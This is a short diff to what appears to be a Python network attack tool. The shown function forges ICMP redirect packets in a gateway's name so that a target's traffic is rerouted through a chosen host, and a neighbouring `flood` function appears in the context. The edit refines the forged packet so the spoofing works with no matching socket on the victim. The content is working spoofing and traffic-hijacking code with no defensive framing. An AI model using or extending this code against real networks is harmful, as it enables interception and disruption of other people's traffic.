@@ -66,9 +66,9 @@ def flood(target, mac, port, prefix, per_second, seconds):
 
 
 def redirect(gateway, target, other, towards):
-    """An ICMP redirect (RFC 792) in the gateway's name: what goes to `towards` shall go by `other`."""
+    """An ICMP redirect (RFC 792) in the gateway's name: what goes to `towards` shall go by `other`. Quoted is an echo reply: no socket need be there."""
     quoted = struct.pack("!BBHHHBBH", 0x45, 0, 28, 1, 0, 64, 1, 0)
-    quoted += socket.inet_aton(target) + socket.inet_aton(towards) + struct.pack("!BBHHH", 8, 0, 0, 1, 1)
+    quoted += socket.inet_aton(target) + socket.inet_aton(towards) + struct.pack("!BBHHH", 0, 0, 0, 1, 1)
     body = lambda total: struct.pack("!BBH", 5, 1, total) + socket.inet_aton(other) + quoted
     icmp = body(checksum(body(0)))
     head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(icmp), 1, 0, 64, 1, 0)
